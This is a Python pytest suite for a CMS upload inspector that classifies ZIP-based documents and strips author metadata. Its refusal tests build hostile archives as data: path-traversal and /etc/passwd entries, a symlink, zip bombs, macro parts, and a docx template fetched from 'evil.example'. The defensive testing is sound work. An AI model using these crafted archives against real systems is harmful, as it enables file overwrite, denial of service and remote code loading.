"""ZIP and the documents made of it: the real parts must be there, programs and bombs must not."""

from __future__ import annotations

import io
import stat
import zipfile
from pathlib import Path

import pytest

from cms.media.archives import WITH_PROPERTIES, look_at_archive, public_office
from cms.media.inspection import inspect
from cms.media.refusal import RefusedFile

MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}
CORE = '<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Årsredovisning</dc:title></c>'


def packed(folder: Path, files: dict[str, str | bytes], name: str = "file.zip") -> Path:
    path = folder / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for inside, content in files.items():
            archive.writestr(inside, content)
    return path


def office(kind: str, **more: str) -> dict[str, str | bytes]:
    """The parts that an Office document must have, and more; a double underscore in a name is a slash, one a dot."""
    part, content_type = MAIN[kind]
    types = f'<Types><Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{content_type}"/></Types>'
    extra = {name.replace("__", "/").replace("_", "."): text for name, text in more.items()}
    return {
        "[Content_Types].xml": types,
        "_rels/.rels": "<Relationships/>",
        part: "<x/>",
        "docProps/core.xml": CORE,
        **extra,
    }


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_office_documents_are_told_by_their_parts(tmp_path: Path, kind: str) -> None:
    found = inspect(packed(tmp_path, office(kind)), "anything.bin")
    assert found.content_type.startswith("application/vnd.openxmlformats-officedocument.")
    assert found.extension == f".{kind}"
    assert look_at_archive(tmp_path / "file.zip").title == "Årsredovisning"


@pytest.mark.parametrize(
    ("mimetype", "extension", "needed"),
    [
        ("application/vnd.oasis.opendocument.text", ".odt", "content.xml"),
        ("application/vnd.oasis.opendocument.spreadsheet", ".ods", "content.xml"),
        ("application/vnd.oasis.opendocument.presentation", ".odp", "content.xml"),
        ("application/vnd.oasis.opendocument.graphics", ".odg", "content.xml"),
        ("application/epub+zip", ".epub", "META-INF/container.xml"),
    ],
)
def test_opendocument_and_epub_are_told_by_their_parts(
    tmp_path: Path, mimetype: str, extension: str, needed: str
) -> None:
    whole = packed(tmp_path, {"mimetype": mimetype, needed: "<x/>"})
    found = inspect(whole, "a.zip")
    assert (found.content_type, found.extension) == (mimetype, extension)
    with pytest.raises(RefusedFile, match="parts are missing"):
        inspect(packed(tmp_path, {"mimetype": mimetype}), "a.odt")


def test_a_plain_zip_is_counted(tmp_path: Path) -> None:
    found = inspect(packed(tmp_path, {"bilder/å.jpg": b"x" * 100, "läs mig.txt": "hej"}), "kit.docx")
    assert (found.content_type, found.extension) == ("application/zip", ".zip")
    archive = look_at_archive(tmp_path / "file.zip")
    assert (archive.files, archive.unpacked, archive.title) == (2, 103, "")


@pytest.mark.parametrize(
    ("files", "found"),
    [
        ({"../../etc/cron.d/x": "x"}, "leads out of its folder"),
        ({"/etc/passwd": "x"}, "leads out of its folder"),
        ({"a\\..\\..\\x": "x"}, "leads out of its folder"),
        ({"C:/x": "x"}, "leads out of its folder"),
        ({"bilder/spel.EXE": "x"}, r"contains a program or a web page \(bilder/spel.EXE\)"),
        ({"index.html": "x"}, "contains a program or a web page"),
        ({"META-INF/MANIFEST.MF": "x"}, "contains a program"),
        ({"a.docm": "x"}, "contains a program"),
        ({str(i): "" for i in range(10_001)}, "10001 files; 10,000 are the most"),
        ({"mimetype": "application/x-other"}, "of a kind that is not taken"),
        ({"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>"}, "no whole Office document"),
        (office("docx", word__vbaProject_bin="x"), r"contains macros \(word/vbaProject.bin\)"),
        (office("xlsx") | {"[Content_Types].xml": "sheet.macroEnabled.main+xml"}, "contains macros"),
        (office("pptx", ppt__activeX__a_xml="x"), "contains macros"),
        (
            {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "", "Basic/x": ""},
            "contains macros",
        ),
        (
            office("docx")
            | {
                "word/_rels/settings.xml.rels": '<R><R Type="http://x/attachedTemplate" TargetMode="External" '
                'Target="https://evil.example/x.dotm"/></R>'
            },
            "loads something from elsewhere .*evil.example",
        ),
        (office("docx") | {"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}, "damaged"),
    ],
)
def test_what_is_hostile_is_refused_by_name(
    tmp_path: Path, files: dict[str, str | bytes], found: str
) -> None:
    with pytest.raises(RefusedFile, match=found) as raised:
        inspect(packed(tmp_path, files), "a.zip")
    assert raised.value.field == "file"


def test_links_to_web_pages_in_documents_are_harmless(tmp_path: Path) -> None:
    link = '<R><R Type="http://x/hyperlink" TargetMode="External" Target="https://norrvind.example"/></R>'
    assert inspect(packed(tmp_path, office("docx") | {"word/_rels/a.rels": link}), "a").extension == ".docx"


def test_symbolic_links_and_passwords_are_refused(tmp_path: Path) -> None:
    link = zipfile.ZipInfo("bild.jpg")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    path = tmp_path / "file.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(RefusedFile, match=r"a link to another file \(bild.jpg\)"):
        look_at_archive(path)
    content = bytearray(packed(tmp_path, {"a.txt": "hej"}).read_bytes())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(content)
    with pytest.raises(RefusedFile, match="only with a password"):
        look_at_archive(path)


def test_bombs_are_refused_without_unpacking(tmp_path: Path) -> None:
    bomb = packed(tmp_path, {"a.txt": bytes(100 << 20)})
    assert bomb.stat().st_size < 200_000
    with pytest.raises(RefusedFile, match=r"would unpack to far more than it is \(100 MB\)"):
        look_at_archive(bomb)
    part = packed(tmp_path, office("docx") | {"[Content_Types].xml": b" " * (5 << 20)})
    with pytest.raises(RefusedFile, match="would unpack to far more"):
        look_at_archive(part)


def test_files_that_share_bytes_are_refused(tmp_path: Path) -> None:
    """Two entries of the directory that name the same bytes, as bombs do that declare true sizes."""
    path = packed(tmp_path, {"a.txt": "hej"})
    content = path.read_bytes()
    directory = content[content.index(b"PK\x01\x02") : content.index(b"PK\x05\x06")]
    end = bytearray(content[content.index(b"PK\x05\x06") :])
    end[8] = end[10] = 2
    end[12:16] = (2 * len(directory)).to_bytes(4, "little")
    path.write_bytes(content[: content.index(b"PK\x01\x02")] + directory * 2 + bytes(end))
    with pytest.raises(RefusedFile, match="would unpack to far more"):
        look_at_archive(path)


def test_half_a_zip_is_damaged(tmp_path: Path) -> None:
    path = packed(tmp_path, {"a.txt": io.BytesIO(b"hej" * 100).getvalue()})
    path.write_bytes(path.read_bytes()[:-30])
    with pytest.raises(RefusedFile, match="is damaged"):
        look_at_archive(path)


def test_the_public_copy_tells_nobody_who_made_it(tmp_path: Path) -> None:
    core = '<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Utkast</dc:title><dc:creator>Åsa</dc:creator></c>'
    text = "<x>" + "Vindkraft " * 1000 + "</x>"
    files = office("docx") | {
        "word/document.xml": text,
        "docProps/core.xml": core,
        "docProps/app.xml": "<Properties><Company>Åsas</Company></Properties>",
        "docProps/custom.xml": "<Properties>Åsa</Properties>",
    }
    source, target = packed(tmp_path, files), tmp_path / "public.docx"
    public_office(source, target, title="Vind & <vatten>")
    with zipfile.ZipFile(target) as copy, zipfile.ZipFile(source) as original:
        assert copy.testzip() is None
        assert copy.namelist() == original.namelist()
        assert copy.read("word/document.xml").decode() == text
        assert "Åsa" not in "".join(copy.read(name).decode() for name in copy.namelist())
        assert {entry.date_time for entry in copy.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    found = look_at_archive(target)
    assert (found.format.extension, found.title) == ("docx", "Vind & <vatten>")
    assert found.format.content_type in WITH_PROPERTIES


def test_the_first_part_of_an_opendocument_stays_unpacked(tmp_path: Path) -> None:
    """OpenDocument 1.3 part 2, 3.3: `mimetype` comes first and is stored."""
    source, target = tmp_path / "file.odt", tmp_path / "public.odt"
    with zipfile.ZipFile(source, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<x/>", zipfile.ZIP_DEFLATED)
        archive.writestr("meta.xml", "<m>Åsa</m>")
    public_office(source, target, title="Vind")
    assert target.read_bytes()[30:46] == b"mimetypeapplicat"
    found = look_at_archive(target)
    assert (found.format.extension, found.title) == ("odt", "Vind")


def test_a_copy_that_fails_leaves_nothing(tmp_path: Path) -> None:
    source, target = packed(tmp_path, office("docx")), tmp_path / "public.docx"
    content = bytearray(source.read_bytes())
    content[content.index(b"word/document.xml") + 18] ^= 0xFF
    source.write_bytes(content)
    with pytest.raises(RefusedFile, match="is damaged"):
        public_office(source, target, title="T")
    assert not target.exists()
